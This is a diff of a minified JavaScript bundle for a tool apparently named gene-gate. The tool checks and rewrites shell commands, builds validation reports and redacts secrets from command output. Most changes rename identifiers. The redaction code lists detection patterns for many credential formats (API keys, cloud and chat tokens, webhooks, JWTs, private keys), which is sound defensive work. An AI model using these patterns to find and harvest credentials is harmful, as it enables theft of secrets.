-test(d.text)?void 0:On(`npx ${n.slice(d.span.start)}`)},dI=({command:n})=>{const[,e,t]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
-exec(n)??[];if(e===void 0||t===void 0)return;const[,s=t,r=""]=/^(.*?)([ \t]+--(?:[ \t].*)?)?$/.exec(t.trim())??[];return On(
-`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function Rm({tree:n}){return[...(n&&await Dn(n,""))?.scripts.keys()??[]]}const Nm=6,
-BI=200;async function su(n,e,t={}){return new fI(e,t).rewrite(n,Nm)}class fI{#e;#t;#s;#i=BI;constructor(e,{rewrites:t=Hm,
+test(d.text)?void 0:An(`npx ${n.slice(d.span.start)}`)},EI=({command:n})=>{const[,e,t]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
+exec(n)??[];if(e===void 0||t===void 0)return;const[,s=t,r=""]=/^(.*?)([ \t]+--(?:[ \t].*)?)?$/.exec(t.trim())??[];return An(
+`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function jm({tree:n}){return[...(n&&await xn(n,""))?.scripts.keys()??[]]}const Mm=6,
+vI=200;async function ru(n,e,t={}){return new kI(e,t).rewrite(n,Mm)}class kI{#e;#t;#s;#i=vI;constructor(e,{rewrites:t=Wm,
 accepts:s=()=>!0}){this.#e=e,this.#t=t,this.#s=s}async rewrite(e,t){this.#i-=1;const s=await this.#e.judge.command(e),{reading:r,
-verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const c=lp(e);if(c!==void 0&&i==="block")return{kind:"left",reason:fn.
+verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const c=pp(e);if(c!==void 0&&i==="block")return{kind:"left",reason:fn.
 Ot.dangerous(c)};let l;for(const h of t>0&&this.#i>0?this.#t:[]){const g=await h(r,this.#e);if(g===void 0)continue;if("r\
-eason"in g){l??=g.reason;continue}const C=await this.#r(g.commands,t-1),y=hI(g,C);if(y.kind==="left")l??=y.reason;else return y}
-const[B]=o,d=t===Nm||this.#s(s);return B===void 0||i==="warn"&&d?{kind:"fine"}:{kind:"left",reason:l??(0,fn.A3)(B)}}async#r(e,t){
-const s=[];for(const r of e){if(s.some(Fm)||this.#i<=0)break;s.push(await this.rewrite(r,t))}return s}}function Fm(n){return n.
-kind==="left"&&n.reason.id!==fn.Vt}function hI(n,e){const t=e.find(Fm);if(t!==void 0)return t;const s=e.flatMap((i,o)=>{
+eason"in g){l??=g.reason;continue}const C=await this.#r(g.commands,t-1),y=DI(g,C);if(y.kind==="left")l??=y.reason;else return y}
+const[B]=o,d=t===Mm||this.#s(s);return B===void 0||i==="warn"&&d?{kind:"fine"}:{kind:"left",reason:l??(0,fn.A3)(B)}}async#r(e,t){
+const s=[];for(const r of e){if(s.some(Gm)||this.#i<=0)break;s.push(await this.rewrite(r,t))}return s}}function Gm(n){return n.
+kind==="left"&&n.reason.id!==fn.Vt}function DI(n,e){const t=e.find(Gm);if(t!==void 0)return t;const s=e.flatMap((i,o)=>{
 if(i.kind==="left")return[];const c=n.commands[o]??"";return i.kind==="fixed"?[i]:[{commands:[c],steps:[],scripts:[]}]}),
 r=e.find(i=>i.kind==="left");return s.length===0||e.length<n.commands.length?r??{kind:"left",reason:fn.Ot.tooLong()}:{kind:"\
 fixed",commands:s.flatMap(({commands:i})=>i),steps:[n.step,...r===void 0?[]:["command that only prints removed"],...s.flatMap(
-({steps:i})=>i)],scripts:[...n.scripts??[],...s.flatMap(({scripts:i})=>i)]}}const Pm=16*1024;async function pI(n,e){const t=[];
-for(const i of n){const o=typeof i=="string"&&i.length<=Pm;t.push(o?await su(i,e):{kind:"fine"})}const s=new Set((await Lm(
-n,e)).flat()),r=await Promise.all(t.map(async i=>(i.kind==="fixed"?(await Lm(i.commands,e)).flat():[]).some(l=>!s.has(l))?
-{kind:"left",reason:fn.Ot.addsProblems()}:i));return gI(n,await mI(n,r,e))}function Lm(n,{judge:e}){return Promise.all(n.
-map(async t=>{const{findings:s}=await e.command(t);return s.flatMap(({rule:r,severity:i})=>i==="notice"?[]:r)}))}async function mI(n,e,t){
-return e.some(Gm)&&(await Promise.all(e.map(async(r,i)=>{if(r.kind==="fixed")return!0;if(r.kind==="left")return!1;const{
+({steps:i})=>i)],scripts:[...n.scripts??[],...s.flatMap(({scripts:i})=>i)]}}const Hm=16*1024;async function xI(n,e){const t=[];
+for(const i of n){const o=typeof i=="string"&&i.length<=Hm;t.push(o?await ru(i,e):{kind:"fine"})}const s=new Set((await zm(
+n,e)).flat()),r=await Promise.all(t.map(async i=>(i.kind==="fixed"?(await zm(i.commands,e)).flat():[]).some(l=>!s.has(l))?
+{kind:"left",reason:fn.Ot.addsProblems()}:i));return AI(n,await OI(n,r,e))}function zm(n,{judge:e}){return Promise.all(n.
+map(async t=>{const{findings:s}=await e.command(t);return s.flatMap(({rule:r,severity:i})=>i==="notice"?[]:r)}))}async function OI(n,e,t){
+return e.some(Zm)&&(await Promise.all(e.map(async(r,i)=>{if(r.kind==="fixed")return!0;if(r.kind==="left")return!1;const{
 findings:o,verdict:c}=await t.judge.command(n[i]);return c!=="block"&&!o.some(({rule:l})=>l==="only-prints")}))).includes(
-!0)?e.map(r=>Gm(r)?CI:r):e}function gI(n,e){const t=new Set,s=new Set;return e.map((r,i)=>{const o=n[i];if(r.kind!=="fix\
-ed")return t.add(o),s.has(o)?jm:r;const c=r.commands.filter(l=>!t.has(l)&&t.add(l));for(const l of c)s.add(l);return c.length===
-r.commands.length?r:{...r,commands:c,steps:[...r.steps,...jm.steps]}})}const CI=Mm("command that only prints removed"),jm=Mm(
-"repeated command removed");function Mm(n){return{kind:"fixed",commands:[],steps:[n],scripts:[]}}function Gm(n){return n.
-kind==="left"&&n.reason.id===fn.Vt}const Hm=[HT,ET,UT,JT,KT,WT,MT,NT,FT,TT],yI=[...Hm,tI,dI,QT,sI,cI,iI,oI,rI,uI,lI],wI=new Set(
-"checks-syntax-only npm-script-missing only-prints target-missing".split(" "));async function bI(n,e,t){if(n.every(({verdict:o})=>o===
-"allow"))return n;const s=n.map(({reading:o})=>o.command),r=new Qc(e),i=t?await pI(s,r):[];return Promise.all(n.map(async(o,c)=>{
-const{command:l}=o.reading;if(o.verdict==="allow"||l.length>Pm)return o;const B=i[c];return B?.kind==="fixed"?Um(o,zm(l,
-B,r),r.judge):EI(o,e,B)}))}async function _I(n,e){const[t=n]=await bI([n],e,!1);return t}function zm(n,{commands:e,scripts:t},s){
+!0)?e.map(r=>Zm(r)?SI:r):e}function AI(n,e){const t=new Set,s=new Set;return e.map((r,i)=>{const o=n[i];if(r.kind!=="fix\
+ed")return t.add(o),s.has(o)?Um:r;const c=r.commands.filter(l=>!t.has(l)&&t.add(l));for(const l of c)s.add(l);return c.length===
+r.commands.length?r:{...r,commands:c,steps:[...r.steps,...Um.steps]}})}const SI=Jm("command that only prints removed"),Um=Jm(
+"repeated command removed");function Jm(n){return{kind:"fixed",commands:[],steps:[n],scripts:[]}}function Zm(n){return n.
+kind==="left"&&n.reason.id===fn.Vt}const Wm=[eI,NT,nI,sI,oI,iI,QT,WT,KT,zT],TI=[...Wm,fI,EI,lI,pI,wI,gI,CI,mI,bI,_I],II=new Set(
+"checks-syntax-only npm-script-missing only-prints target-missing".split(" "));async function $I(n,e,t){if(n.every(({verdict:o})=>o===
+"allow"))return n;const s=n.map(({reading:o})=>o.command),r=new Xc(e),i=t?await xI(s,r):[];return Promise.all(n.map(async(o,c)=>{
+const{command:l}=o.reading;if(o.verdict==="allow"||l.length>Hm)return o;const B=i[c];return B?.kind==="fixed"?qm(o,Km(l,
+B,r),r.judge):NI(o,e,B)}))}async function RI(n,e){const[t=n]=await $I([n],e,!1);return t}function Km(n,{commands:e,scripts:t},s){
 const r=t.map(i=>s.pathOf(i)).flatMap(i=>{const o=s.textOf(i);return o===void 0?[]:[{path:i,text:o}]});return{old:n,new:e,
-...r.length>0&&{files:r},fix:!0}}async function EI(n,e,t){const{command:s}=n.reading,r=t??await su(s,new Qc(e));if(r.kind===
-"left"&&fn.CT.has(r.reason.id))return vI(n,r.reason.remedy);const i=new Qc(e),o=await su(s,i,{rewrites:yI,accepts:({findings:c})=>!c.
-some(({rule:l})=>wI.has(l))});return o.kind!=="fixed"?n:Um(n,{...zm(s,o,i),fix:!1},i.judge)}function vI(n,e){const[t,...s]=n.
-findings;return t?{...n,findings:[{...t,advice:e},...s]}:n}async function Um(n,e,t){const{findings:s,verdict:r}=n,i=await Promise.
+...r.length>0&&{files:r},fix:!0}}async function NI(n,e,t){const{command:s}=n.reading,r=t??await ru(s,new Xc(e));if(r.kind===
+"left"&&fn.CT.has(r.reason.id))return FI(n,r.reason.remedy);const i=new Xc(e),o=await ru(s,i,{rewrites:TI,accepts:({findings:c})=>!c.
+some(({rule:l})=>II.has(l))});return o.kind!=="fixed"?n:qm(n,{...Km(s,o,i),fix:!1},i.judge)}function FI(n,e){const[t,...s]=n.
+findings;return t?{...n,findings:[{...t,advice:e},...s]}:n}async function qm(n,e,t){const{findings:s,verdict:r}=n,i=await Promise.
 all(e.new.map(h=>t.command(h)));if(i.some(h=>h.verdict==="block"))return n;const o=new Set(s.map(({rule:h})=>h)),c=i.flatMap(
 h=>h.findings).flatMap(({rule:h,severity:g})=>g==="notice"?[]:h),l=c.some(h=>!o.has(h));if(r==="warn"&&l)return n;const B=({
 rule:h,severity:g})=>r==="block"?g==="error":!c.includes(h),d=s.find(B);return d===void 0?n:{...n,findings:s.map(h=>h===
-d?{...h,edit:e}:h)}}const kI=nn(import.meta.url)("node:util");function DI(n){if(!$n(n)||n.type!=="ValidationReport")return;
+d?{...h,edit:e}:h)}}const PI=nn(import.meta.url)("node:util");function LI(n){if(!En(n)||n.type!=="ValidationReport")return;
 const e=typeof n.overall_ok=="boolean"?"protocol":"results",t=e==="protocol"?n.commands:n.results;if(!Array.isArray(t))return;
-const s=t.map(Jm);return{shape:e,id:Qs(n.id),geneId:Qs(n.gene_id),commands:s,ok:n.overall_ok!==!1&&s.length>0&&s.every(({
-ok:r})=>r),contradictory:Array.isArray(n.commands)&&Array.isArray(n.results)&&!(0,kI.isDeepStrictEqual)(n.commands.map(Zm),
-n.results.map(Zm)),durationMs:ru(n.duration_ms)??xI(n),hash:ms({type:"ValidationReport",value:n})??null,differences:wd("\
-ValidationReport",n)}}function Jm(n){const{command:e,cmd:t,ok:s,duration_ms:r,err:i,stderr:o}=$n(n)?n:{},c=Qs(e)??Qs(t);
-return{command:c??"",ok:s===!0&&c!==null,durationMs:ru(r),error:Qs(i)??Qs(o)}}function Zm(n){const{command:e,ok:t}=Jm(n);
-return[e,t]}function xI({started_at:n,finished_at:e}){const[t,s]=[n,e].map(r=>typeof r=="string"?Date.parse(r):ru(r));return typeof t==
-"number"&&typeof s=="number"&&s>=t?s-t:null}function Qs(n){return typeof n=="string"?n:null}function ru(n){return typeof n==
-"number"?n:null}const bo={name:"gene-gate",version:"0.1.0"},aF="https://github.com/gene-gate/gene-gate",cF="node ../gene\
--gate/dist/cli/index.js",uF=null,OI=String.raw`
+const s=t.map(Ym);return{shape:e,id:Qs(n.id),geneId:Qs(n.gene_id),commands:s,ok:n.overall_ok!==!1&&s.length>0&&s.every(({
+ok:r})=>r),contradictory:Array.isArray(n.commands)&&Array.isArray(n.results)&&!(0,PI.isDeepStrictEqual)(n.commands.map(Vm),
+n.results.map(Vm)),durationMs:iu(n.duration_ms)??jI(n),hash:ms({type:"ValidationReport",value:n})??null,differences:vd("\
+ValidationReport",n)}}function Ym(n){const{command:e,cmd:t,ok:s,duration_ms:r,err:i,stderr:o}=En(n)?n:{},c=Qs(e)??Qs(t);
+return{command:c??"",ok:s===!0&&c!==null,durationMs:iu(r),error:Qs(i)??Qs(o)}}function Vm(n){const{command:e,ok:t}=Ym(n);
+return[e,t]}function jI({started_at:n,finished_at:e}){const[t,s]=[n,e].map(r=>typeof r=="string"?Date.parse(r):iu(r));return typeof t==
+"number"&&typeof s=="number"&&s>=t?s-t:null}function Qs(n){return typeof n=="string"?n:null}function iu(n){return typeof n==
+"number"?n:null}const _o={name:"gene-gate",version:"0.1.0"},yF="https://github.com/gene-gate/gene-gate",wF="node ../gene\
+-gate/dist/cli/index.js",bF=null,MI=String.raw`
   sk-(?:ant|or|proj|svcacct|admin|lf|None)- gsk_ hf_ api_org_ pplx- xai- r8_ tvly- bedrock-api-key-
   ABSK nvapi- pcsk_ lsv2_(?:pt|sk)_
   GR1348941 AT[AC]TT3 ATBB pypi-AgE rubygems_ CLOJARS_ dckr_(?:pat|oat)_ AKCp cmVmd sgp_ snyk_
@@ -7200,102 +7224,102 @@ return[e,t]}function xI({started_at:n,finished_at:e}){const[t,s]=[n,e].map(r=>ty
   duffel_(?:live|test)_ EZ[AT]K access-(?:sandbox|development|production)- xoxe\.xox[bp]- SG\. xkeysib-
   key-(?=[0-9a-f]{32}) SK(?=[0-9a-fA-F]{32}) \d{8,10}:AA fio-u- tfp_ p8e- s-s4t2(?:ud|af)- sm_[aps]at_
   AGE-SECRET-KEY-1 A3-[A-Z0-9]{6}-
-`,AI=new RegExp(`\\b(?:${OI.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),lF=[["github \
+`,GI=new RegExp(`\\b(?:${MI.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),_F=[["github \
 token",/gh[pousr]_[A-Za-z0-9][\w.-]{19,}/dg],["github token",/github_pat_\w{20,}/dg],["gitlab token",/gl(?:pat|dt|ft|rt|cbt|ptt|imt|agent|oas|soat|ffct)-[\w-]{20,}/dg],
 ["gitlab token",/_gitlab_session=([0-9a-z]{32})/dg],["npm token",/npm_[A-Za-z0-9]{30,}/dg],["npm token",/_(?:authToken|auth|password)[ \t]{0,8}=[ \t]{0,8}(?!\[redacted )(\S{8,})/dg],
 ["aws key",/(?:AKIA|ASIA|ABIA|ACCA|A3T[A-Z0-9])[A-Z0-9]{16}/dg],["aws secret",/aws_secret_access_key["']?[ \t]{0,8}[:=][ \t]{0,8}["']?([\w/+=]{40})/dgi],
 ["azure secret",/[\w~.]{3}\dQ~[\w.~-]{31,34}/dg],["azure secret",/(?:AccountKey|SharedAccessKey)=([\w+/]{40,}={0,2})/dgi],
 ["slack token",/(?:xox[abeoprs]|xapp)-[A-Za-z0-9-]{10,}/dg],["slack webhook",/hooks\.slack\.com\/(?:services|workflows|triggers)\/([\w/]{20,})/dg],
 ["discord token",/\b[MNO][A-Za-z\d]{23,25}\.[\w-]{6}\.[\w-]{27,38}/dg],["webhook",/discord(?:app)?\.com\/api\/webhooks\/\d{1,20}\/([\w-]{20,})/dg],
-["webhook",/webhook\.office\.com\/webhookb2\/([\w@/-]{20,})/dg],["api key",AI],["api key",/\b[rs]k_(?:live|test|prod)_[A-Za-z0-9]{10,}|\bFLWSECK_TEST-[a-h0-9]{12}/dg],
+["webhook",/webhook\.office\.com\/webhookb2\/([\w@/-]{20,})/dg],["api key",GI],["api key",/\b[rs]k_(?:live|test|prod)_[A-Za-z0-9]{10,}|\bFLWSECK_TEST-[a-h0-9]{12}/dg],
 ["api key",/\bsk-[A-Za-z0-9]{20,}/dg],["api key",/AIza[\w-]{35}/dg],["api key",/\bhf_[A-Za-z]{34}\b|\bapi_org_[A-Za-z]{34}\b/dg],
 ["api key",/\b[A-Za-z0-9]{6}_[A-Za-z0-9]{29}_mmk\b/dg],["api key",/\b[0-9a-f]{32}-us\d{1,2}\b/dg],["api key",/\b\d{15,16}[|%][\w-]{27,40}/dg],
 ["jwt",/eyJ[\w-]{13,}(?:\.[\w-]*){0,4}/dg],["jwt",/\bZXlK[\w+/=-]{40,}/dg],["authorization header",/authorization["']?[ \t]{0,8}[:=][ \t]{0,8}["']?(?!\[redacted )((?:(?:basic|bearer|digest|token)[ \t]{1,8})?[^\s"']+)/dgi],
 ["bearer token",/bearer[ \t]{1,8}([\w.~+/=-]{16,})/dgi],["password",/\bcurl\b[^\n]{0,200}?[ \t](?:-u|--user)[ =]["']?([^\s"':]{1,64}:[^\s"']{3,})/dg],
 ["url user info",/:\/\/(?!\[redacted )([^\s/?#@]{1,512})@/dg],["private key",/-----BEGIN[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----[\s\S]*?(?:-----END[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----|$)/dg]];
-function SI(n){return TOKEN_SHAPES.flatMap(([e,t])=>Array.from(n.matchAll(t),({indices:s})=>{const[r,i]=s?.[1]??s?.[0]??
-[0,0];return{kind:e,start:r,end:i}}))}function dF(n,e=[]){return TI(n,knownForms(e))}function TI(n,e){const t=[...findKnown(
-n,e),...SI(n),...LI(n)].sort((o,c)=>o.start-c.start||c.end-o.end),s=[];for(const o of t){const c=s.at(-1);c===void 0||o.
+function HI(n){return TOKEN_SHAPES.flatMap(([e,t])=>Array.from(n.matchAll(t),({indices:s})=>{const[r,i]=s?.[1]??s?.[0]??
+[0,0];return{kind:e,start:r,end:i}}))}function EF(n,e=[]){return zI(n,knownForms(e))}function zI(n,e){const t=[...findKnown(
+n,e),...HI(n),...YI(n)].sort((o,c)=>o.start-c.start||c.end-o.end),s=[];for(const o of t){const c=s.at(-1);c===void 0||o.
 start>=c.end?s.push(o):o.end>c.end&&s.splice(-1,1,{...c,end:o.end})}let r="",i=0;for(const{kind:o,start:c,end:l}of s)r+=
-`${n.slice(i,c)}[redacted ${o}]`,i=l;return{text:r+n.slice(i),redactions:s}}const _o="(?<name>pass(?:word|wd|phrase)|pwd\
-|secret(?:[_-]?(?:access[_-]?)?key)?|token|(?:api|access|private|signing|encryption)[_-]?key)",II="[ \\t]{0,8}(?::|=(?!=)\
-)[ \\t]{0,8}",$I="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",Wm=`\\\\{0,3}["']`,RI=new RegExp(
-`${_o}(?:${Wm})?${II}${Wm}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),NI=new RegExp(`${_o}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
-})`,"dgi"),FI=new RegExp(`${_o}${$I}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi"),PI=new RegExp(`${_o}(?<=--[\\w-]{1,60}\
-)[ \\t]{1,8}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi");function LI(n){return[...Eo(n,RI,({name:e,value:t,next:s})=>/["'\\]/.
-test(s)&&!GI(e,t)),...Eo(n,NI,({value:e,next:t})=>!iu(e,t)),...Eo(n,FI,({value:e,next:t})=>Km(e)&&!iu(e,t)),...Eo(n,PI,({
-value:e,next:t})=>Km(e)&&!iu(e,t))]}function Eo(n,e,t){return Array.from(n.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
-const{name:i="",value:o=""}=s,[c,l]=r?.groups?.value??[0,0],B={name:i,value:o,next:n.charAt(l)};return MI(i,o)||!t(B)?[]:
-[{kind:"named secret",start:c,end:l}]})}const jI=/^(?:undefined|null|nil|none|true|false|string|number|boolean|function|object|unknown|any|never|required|missing|optional|expired|invalid|incorrect|expected|unexpected|empty|redacted|hidden|changeme|example|placeholder)[.!?]?$/i;
-function MI(n,e){return jI.test(e)||/^(?:[*x•.…_-]+|[<{$%].*|\[.*)$/i.test(e)?!0:/^[\d.:_-]+$/.test(e)&&!/^p/i.test(
-n)}function GI(n,e){return/token|key/i.test(n)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function iu(n,e){return e!==""&&"([{".includes(
-e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(n)}function Km(n){return/:\/\/|^[.~]?\/|\/.*\.\w{1,5}$/.
+`${n.slice(i,c)}[redacted ${o}]`,i=l;return{text:r+n.slice(i),redactions:s}}const Eo="(?<name>pass(?:word|wd|phrase)|pwd\
+|secret(?:[_-]?(?:access[_-]?)?key)?|token|(?:api|access|private|signing|encryption)[_-]?key)",UI="[ \\t]{0,8}(?::|=(?!=)\
+)[ \\t]{0,8}",JI="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",Qm=`\\\\{0,3}["']`,ZI=new RegExp(
+`${Eo}(?:${Qm})?${UI}${Qm}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),WI=new RegExp(`${Eo}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
+})`,"dgi"),KI=new RegExp(`${Eo}${JI}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi"),qI=new RegExp(`${Eo}(?<=--[\\w-]{1,60}\
+)[ \\t]{1,8}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi");function YI(n){return[...vo(n,ZI,({name:e,value:t,next:s})=>/["'\\]/.
+test(s)&&!XI(e,t)),...vo(n,WI,({value:e,next:t})=>!ou(e,t)),...vo(n,KI,({value:e,next:t})=>Xm(e)&&!ou(e,t)),...vo(n,qI,({
+value:e,next:t})=>Xm(e)&&!ou(e,t))]}function vo(n,e,t){return Array.from(n.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
+const{name:i="",value:o=""}=s,[c,l]=r?.groups?.value??[0,0],B={name:i,value:o,next:n.charAt(l)};return QI(i,o)||!t(B)?[]:
+[{kind:"named secret",start:c,end:l}]})}const VI=/^(?:undefined|null|nil|none|true|false|string|number|boolean|function|object|unknown|any|never|required|missing|optional|expired|invalid|incorrect|expected|unexpected|empty|redacted|hidden|changeme|example|placeholder)[.!?]?$/i;
+function QI(n,e){return VI.test(e)||/^(?:[*x•.…_-]+|[<{$%].*|\[.*)$/i.test(e)?!0:/^[\d.:_-]+$/.test(e)&&!/^p/i.test(
+n)}function XI(n,e){return/token|key/i.test(n)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function ou(n,e){return e!==""&&"([{".includes(
+e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(n)}function Xm(n){return/:\/\/|^[.~]?\/|\/.*\.\w{1,5}$/.
 test(n)||/^(?:sha|md|base|utf|hs|rs|es|aes|oauth|v)-?\d+\w{0,4}$/i.test(n)?!1:/\d/.test(n)?/[a-z]/i.test(n):n.length>=20&&
-!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(n)}function BF(n,e=[]){const t=knownForms(e);return{...n,stdout:qm(n.stdout,
-t),stderr:qm(n.stderr,t),...n.reason===void 0?{}:{reason:redactForms(n.reason,t).text}}}function qm(n,e){const{head:t,tail:s,
-truncated:r}=n;if(!r)return{...n,head:redactForms(t+s,e).text,tail:""};const i=reachOfKnown(e),o=HI(t.slice(0,Math.max(0,
-t.length-i))),c=UI(zI(s.slice(i)));return{...n,head:redactForms(o,e).text,tail:redactForms(c,e).text}}const Ym=4096;function HI(n){
-const e=/\S*$/.exec(n.slice(-Ym))?.[0]??"";return n.slice(0,n.length-e.length)}function zI(n){return n.slice(/^\S*/.exec(
-n.slice(0,Ym))?.[0].length??0)}function UI(n){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
-n);return e===null?n:`[redacted private key]${n.slice(e[0].length)}`}function fF(n,e){const t=n.outcomes.map(s=>redactOutcome(
-s,e));return{...n,outcomes:t}}function hF(n,e){let t=e.startedAt.getTime();return n.map(s=>s.ran?JI(s,`vr_${t++}`,e):null)}
-function JI({gene:n,outcomes:e,mutants:t},s,{nodeOf:r,policyDigest:i,finishedAt:o}){const c=e.map((B,d)=>{const h=t?.[d];
-return{command:n.commands[d]?.command??"",ok:B.status==="passed",stdout:ko(B.stdout,vo),stderr:KI(B),status:B.status,exit_code:B.
-exit_code,signal:B.signal,duration_ms:B.duration_ms,...h&&{mutant:WI(h)}}}),l=e[0]?.started_at??o.toISOString();return Qm(
-{...Vm({commands:c,startedAt:l,finishedAt:ZI(e,o)}),id:s,gene_id:n.asset.id,gene_asset_id:contentHash(n.asset.value),policy_digest:i,
-...eg(r(n)),commands:c})}function ZI(n,e){const t=n.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=t.length===0?
-Number.POSITIVE_INFINITY:Math.max(...t);return new Date(Math.min(s,e.getTime())).toISOString()}function WI({outcome:n,operator:e,
-files:t}){return{outcome:n,...e&&{operator:e},files:t}}function KI({stderr:n,reason:e,status:t}){if(t==="passed"||e===void 0)
-return ko(n,vo);const s=e.slice(0,ou),r=ko(n,vo-s.length-1);return r===""?s:`${r}
-${s}`}function Vm({commands:n,startedAt:e,finishedAt:t}){return{type:"ValidationReport",schema_version:Tl,results:n.map(
+!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(n)}function vF(n,e=[]){const t=knownForms(e);return{...n,stdout:eg(n.stdout,
+t),stderr:eg(n.stderr,t),...n.reason===void 0?{}:{reason:redactForms(n.reason,t).text}}}function eg(n,e){const{head:t,tail:s,
+truncated:r}=n;if(!r)return{...n,head:redactForms(t+s,e).text,tail:""};const i=reachOfKnown(e),o=e1(t.slice(0,Math.max(0,
+t.length-i))),c=n1(t1(s.slice(i)));return{...n,head:redactForms(o,e).text,tail:redactForms(c,e).text}}const tg=4096;function e1(n){
+const e=/\S*$/.exec(n.slice(-tg))?.[0]??"";return n.slice(0,n.length-e.length)}function t1(n){return n.slice(/^\S*/.exec(
+n.slice(0,tg))?.[0].length??0)}function n1(n){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
+n);return e===null?n:`[redacted private key]${n.slice(e[0].length)}`}function kF(n,e){const t=n.outcomes.map(s=>redactOutcome(
+s,e));return{...n,outcomes:t}}function DF(n,e){let t=e.startedAt.getTime();return n.map(s=>s.ran?s1(s,`vr_${t++}`,e):null)}
+function s1({gene:n,outcomes:e,mutants:t},s,{nodeOf:r,policyDigest:i,finishedAt:o}){const c=e.map((B,d)=>{const h=t?.[d];
+return{command:n.commands[d]?.command??"",ok:B.status==="passed",stdout:Do(B.stdout,ko),stderr:o1(B),status:B.status,exit_code:B.
+exit_code,signal:B.signal,duration_ms:B.duration_ms,...h&&{mutant:i1(h)}}}),l=e[0]?.started_at??o.toISOString();return sg(
+{...ng({commands:c,startedAt:l,finishedAt:r1(e,o)}),id:s,gene_id:n.asset.id,gene_asset_id:contentHash(n.asset.value),policy_digest:i,
+...ig(r(n)),commands:c})}function r1(n,e){const t=n.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=t.length===0?
+Number.POSITIVE_INFINITY:Math.max(...t);return new Date(Math.min(s,e.getTime())).toISOString()}function i1({outcome:n,operator:e,
+files:t}){return{outcome:n,...e&&{operator:e},files:t}}function o1({stderr:n,reason:e,status:t}){if(t==="passed"||e===void 0)
+return Do(n,ko);const s=e.slice(0,au),r=Do(n,ko-s.length-1);return r===""?s:`${r}
+${s}`}function ng({commands:n,startedAt:e,finishedAt:t}){return{type:"ValidationReport",schema_version:Il,results:n.map(
 ({command:s,ok:r,duration_ms:i,stderr:o})=>({cmd:s,ok:r,duration_ms:i,...r?{}:{err:o}})),overall_ok:n.length>0&&n.every(
-({ok:s})=>s),duration_ms:Math.max(0,Date.parse(t)-Date.parse(e)),started_at:e,finished_at:t,created_at:t}}function Qm(n){
+({ok:s})=>s),duration_ms:Math.max(0,Date.parse(t)-Date.parse(e)),started_at:e,finished_at:t,created_at:t}}function sg(n){
 const e=ki(n);if(e===null)throw new TypeError("computeAssetId returns null only for a value that is not an object");return{
-...n,asset_id:e}}const vo=4e3,ou=1e3;function ko({head:n,tail:e,bytes:t,truncated:s},r){const i=n+e;if(!s&&i.length<=r)return i;
+...n,asset_id:e}}const ko=4e3,au=1e3;function Do({head:n,tail:e,bytes:t,truncated:s},r){const i=n+e;if(!s&&i.length<=r)return i;
 const o=`
 [cut: the beginning and the end of ${t} bytes]
-`,c=s?n:i,l=s?e:i;return c.slice(0,ou).replace(/[\ud800-\udbff]$/,"")+o+l.slice(-(r-ou-o.length)).replace(/^[\udc00-\udfff]/,
-"")}function Xm(n){const e={head:n,tail:"",bytes:Buffer.byteLength(n),truncated:!1};return ko(e,vo)}function eg({version:n,
-platform:e,arch:t}){const s=["",n,e,t,"",bo.name,bo.version].join("|");return{env_fingerprint:{node_version:n,platform:e,
-arch:t,client:bo.name,client_version:bo.version},env_fingerprint_key:(0,sa.createHash)("sha256").update(s).digest("hex").
-slice(0,16)}}const au="errsig:",qI="errsig_norm:",YI=220;function VI(n){return n.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,
+`,c=s?n:i,l=s?e:i;return c.slice(0,au).replace(/[\ud800-\udbff]$/,"")+o+l.slice(-(r-au-o.length)).replace(/^[\udc00-\udfff]/,
+"")}function rg(n){const e={head:n,tail:"",bytes:Buffer.byteLength(n),truncated:!1};return Do(e,ko)}function ig({version:n,
+platform:e,arch:t}){const s=["",n,e,t,"",_o.name,_o.version].join("|");return{env_fingerprint:{node_version:n,platform:e,
+arch:t,client:_o.name,client_version:_o.version},env_fingerprint_key:(0,ra.createHash)("sha256").update(s).digest("hex").
+slice(0,16)}}const cu="errsig:",a1="errsig_norm:",c1=220;function u1(n){return n.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,
 "<path>").replace(/\/[^ \n\r\t]+/g,"<path>").replace(/\b0x[0-9a-f]+\b/g,"<hex>").replace(/\b\d+\b/g,"<n>").replace(/\s+/g,
